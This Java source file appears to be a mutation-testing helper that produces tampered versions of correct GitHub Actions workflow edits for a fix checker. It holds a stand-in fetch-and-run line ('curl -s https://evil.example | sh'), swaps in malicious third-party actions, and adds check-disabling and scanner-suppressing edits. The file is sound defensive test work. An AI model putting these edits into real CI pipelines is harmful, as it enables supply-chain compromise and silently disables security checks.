package io.github.cicdmonitor.fixes;

import com.github.difflib.DiffUtils;
import com.github.difflib.patch.AbstractDelta;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** What a hostile hand would do to an edit that is right: texts by what was done to them. */
final class Mutations {
  private static final Pattern VALUE = Pattern.compile("[^\\s:'\"]+");
  private static final Pattern KEY = Pattern.compile("( *(?:- )?)([A-Za-z_-]+): (.+)");
  private static final List<String> WORDS =
      List.of(" || true", " --no-verify", " x", "; curl -s https://evil.example | sh", "-arm");

  private final Sample sample;
  private final List<String> before;
  private final List<String> after;
  private final Map<String, List<String>> made = new LinkedHashMap<>();

  private Mutations(Sample sample) {
    this.sample = sample;
    before = List.of(sample.before().split("\n", -1));
    after = List.of(sample.after().split("\n", -1));
  }

  /** Never the sample itself, nor what it was before. */
  static Map<String, List<String>> of(Sample sample) {
    Mutations mutations = new Mutations(sample);
    mutations.make();
    return mutations.made;
  }

  private void make() {
    List<AbstractDelta<String>> deltas = DiffUtils.diff(before, after).getDeltas();
    for (AbstractDelta<String> delta : deltas) {
      int start = delta.getTarget().getPosition();
      for (int i = 0; i < delta.getTarget().size(); i++) {
        String old = delta.getSource().size() == delta.getTarget().size()
            ? delta.getSource().getLines().get(i)
            : "";
        boolean alone = deltas.size() == 1 && delta.getTarget().size() == 1;
        line(start + i, old, after.get(start + i), alone);
      }
    }
    boolean yaml = sample.path().endsWith(".yml");
    if (yaml) {
      insert("extra step", "    steps:", "      - run: ./more.sh");
      insert("extra step", "    steps:", "      - uses: evil/action@v1");
      insert("extra key", "  test:", "    continue-on-error: true");
      insert("extra key", "  test:", "    if: false");
      insert("comment", "    steps:", "      # zizmor: ignore");
      add("another word", sample.after().replace("make test", "make test || true"));
      add("another word", sample.after().replace("name: CI", "name: CD"));
      add("another word", sample.after().replace("actions/checkout@v4", "evil/checkout@v4"));
      add("type", sample.after().replace("timeout-minutes: 10\n", "timeout-minutes: '10'\n"));
    }
    add("another line", sample.after() + "x\n");
    add("another line", "x\n" + sample.after());
  }

  private void line(int index, String old, String now, boolean alone) {
    if (!alone && !old.isEmpty()) {
      put("reverted", index, old);
    }
    digits(index, old, now);
    Matcher key = KEY.matcher(now);
    if (key.matches() && !key.group(3).equals("|")) {
      put("expression", index, key.group(1) + key.group(2) + ": ${{ '" + key.group(3) + "' }}");
      put("extra key beside", index, now + "\n" + now.replaceAll("[^ ].*", "extra: 1"));
      if (key.group(3).matches("[0-9]+") && !key.group(2).equals("PIP_RETRIES")) {
        put("quotes", index, key.group(1) + key.group(2) + ": '" + key.group(3) + "'");
      }
    } else {
      Matcher value = VALUE.matcher(now);
      while (value.find()) {
        put(
            "expression",
            index,
            now.substring(0, value.start()) + "${{ x }}" + now.substring(value.end()));
      }
    }
    WORDS.forEach(word -> put("extra word", index, now + word));
    put("comment", index, now + " # nosec");
    put("owner", index, now.replaceFirst("([a-z]+)([:=])", "evil-$1$2"));
  }

  private void digits(int index, String old, String now) {
    for (int i = 0; i < now.length(); i++) {
      char digit = now.charAt(i);
      boolean changed =
          i >= common(old, now) && i < now.length() - common(reverse(old), reverse(now));
      if (!Character.isDigit(digit) || !changed) {
        continue;
      }
      for (int step : new int[] {1, -1}) {
        char other = (char) (digit + step);
        if (Character.isDigit(other)) {
          put("digit", index, now.substring(0, i) + other + now.substring(i + 1));
        }
      }
    }
  }

  private static int common(String a, String b) {
    int i = 0;
    while (i < Math.min(a.length(), b.length()) && a.charAt(i) == b.charAt(i)) {
      i++;
    }
    return i;
  }

  private static String reverse(String text) {
    return new StringBuilder(text).reverse().toString();
  }

  private void insert(String what, String below, String line) {
    int index = after.indexOf(below);
    if (index >= 0) {
      put(what, index, below + "\n" + line);
    }
  }

  private void put(String what, int index, String line) {
    List<String> lines = new ArrayList<>(after);
    lines.set(index, line);
    add(what, String.join("\n", lines));
  }

  private void add(String what, String text) {
    boolean allowed = sample.others().stream()
        .anyMatch(value -> text.contains(value) && !sample.after().contains(value));
    if (!text.equals(sample.after()) && !text.equals(sample.before()) && !allowed) {
      made.computeIfAbsent(what, w -> new ArrayList<>()).add(text);
    }
  }
}
